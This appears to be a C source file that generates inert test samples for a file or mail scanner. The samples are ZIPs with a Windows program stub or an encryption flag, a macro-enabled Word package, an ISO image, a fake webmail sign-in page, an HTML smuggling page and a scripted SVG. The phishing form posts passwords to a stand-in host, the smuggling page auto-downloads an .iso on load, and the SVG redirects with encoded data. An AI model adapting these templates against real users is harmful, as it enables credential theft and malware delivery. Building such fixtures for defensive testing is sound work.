/* files.c - see files.h. */
#include "files.h"

#include <string.h>

enum { FILE_MOST = 1 << 20, ZIP_LOCKED = 1 };

static void put(struct buf *out, uint32_t value, size_t bytes)
{
    for (size_t i = 0; i < bytes; i++)
        buf_char(out, (char)(value >> (8 * i) & 0xff));
}

static uint32_t crc32_of(struct str bytes)
{
    uint32_t crc = 0xffffffff;

    for (size_t i = 0; i < bytes.len; i++) {
        crc ^= (unsigned char)bytes.at[i];
        for (int bit = 0; bit < 8; bit++)
            crc = crc >> 1 ^ (crc & 1 ? 0xedb88320u : 0);
    }
    return ~crc;
}

struct member {
    const char *name;
    struct str bytes;
};

/* The fields that a member's local and central headers share (PKWARE APPNOTE 4.3.7, 4.3.12). */
static void zip_fields(struct buf *out, const struct member *member, unsigned flags)
{
    put(out, 20, 2);
    put(out, flags, 2);
    put(out, 0, 2); /* stored */
    put(out, 0, 2);
    put(out, 0x5b5a, 2);
    put(out, crc32_of(member->bytes), 4);
    put(out, (uint32_t)member->bytes.len, 4);
    put(out, (uint32_t)member->bytes.len, 4);
    put(out, (uint32_t)strlen(member->name), 2);
    put(out, 0, 2);
}

static void zip(struct buf *out, const struct member *members, size_t count, unsigned flags)
{
    uint32_t offsets[8] = {0};
    size_t begin;

    buf_init(out, FILE_MOST);
    for (size_t i = 0; i < count; i++) {
        offsets[i] = (uint32_t)out->len;
        put(out, 0x04034b50, 4);
        zip_fields(out, &members[i], flags);
        buf_text(out, members[i].name);
        buf_str(out, members[i].bytes);
    }
    begin = out->len;
    for (size_t i = 0; i < count; i++) {
        put(out, 0x02014b50, 4);
        put(out, 20, 2);
        zip_fields(out, &members[i], flags);
        put(out, 0, 2);
        put(out, 0, 2);
        put(out, 0, 2);
        put(out, 0, 4);
        put(out, offsets[i], 4);
        buf_text(out, members[i].name);
    }
    size_t size = out->len - begin;
    put(out, 0x06054b50, 4);
    put(out, 0, 4);
    put(out, (uint32_t)count, 2);
    put(out, (uint32_t)count, 2);
    put(out, (uint32_t)size, 4);
    put(out, (uint32_t)begin, 4);
    put(out, 0, 2);
}

/* The first bytes of a Windows program and nothing behind them. */
static void program(struct buf *out)
{
    buf_init(out, FILE_MOST);
    buf_text(out, "MZ");
    while (out->len < 0x3c)
        buf_char(out, '\0');
    put(out, 0x80, 4);
    while (out->len < 0x80)
        buf_char(out, '\0');
    buf_add(out, "PE\0\0", 4);
    put(out, 0x014c, 2); /* for i386 */
    put(out, 0, 2);
    put(out, 0, 4);
    put(out, 0, 4);
    put(out, 0, 4);
    put(out, 0xe0, 2);
    put(out, 0x0102, 2);
    put(out, 0x010b, 2);
    while (out->len < 1024)
        buf_char(out, '\0');
}

void file_zip_with_program(struct buf *out, const char *member)
{
    struct buf bytes;

    program(&bytes);
    zip(out, &(struct member){member, buf_as_str(&bytes)}, 1, 0);
    buf_dispose(&bytes);
}

void file_zip_locked(struct buf *out, const char *member)
{
    zip(out, &(struct member){member, str_of("not readable without the password; sample text")}, 1,
        ZIP_LOCKED);
}

void file_macro_document(struct buf *out)
{
    const struct member members[] = {
        {"[Content_Types].xml",
         str_of("<?xml version=\"1.0\"?><Types "
                "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
                "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")},
        {"word/document.xml", str_of("<?xml version=\"1.0\"?><w:document/>")},
        {"word/vbaProject.bin", str_of("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 sample, not a program")},
    };

    zip(out, members, ARRAY_LEN(members), 0);
}

void file_disk_image(struct buf *out)
{
    buf_init(out, FILE_MOST);
    while (out->len < 32768)
        buf_char(out, '\0');
    buf_text(out, "\x01"
                  "CD001\x01");
    while (out->len < 40960)
        buf_char(out, '\0');
}

void file_login_page(struct buf *out)
{
    buf_init(out, FILE_MOST);
    buf_text(out, "<!DOCTYPE html><html><head><title>Webmail sign in</title></head><body>\n"
                  "<h2>Your session has expired. Please sign in again.</h2>\n"
                  "<form method=\"post\" action=\"https://webmail-gomoc.example/collect\">\n"
                  "<input name=\"user\" value=\"anh.tran@gomoc.example\">\n"
                  "<input type=\"password\" name=\"password\" placeholder=\"Password\">\n"
                  "<button>Sign in</button></form>\n"
                  "<p>Incorrect password? Check your login and try again.</p></body></html>\n");
}

void file_smuggling_page(struct buf *out)
{
    buf_init(out, FILE_MOST);
    buf_text(out,
             "<!DOCTYPE html><html><body onload=\"go()\"><p>Preparing your document</p>\n<script>\n"
             "function go(){var d=atob('c2FtcGxlIG9ubHk=');var b=new Blob([d]);\n"
             "var a=document.createElement('a');a.href=URL.createObjectURL(b);\n"
             "a.download='Price-List-2027.iso';a.click();}\n</script></body></html>\n");
}

void file_scripted_picture(struct buf *out)
{
    buf_init(out, FILE_MOST);
    buf_text(out, "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" "
                  "height=\"40\"><rect width=\"40\" height=\"40\"/>\n"
                  "<script>location.href='https://webmail-gomoc.example/?m='+btoa('anh')</script>"
                  "</svg>\n");
}
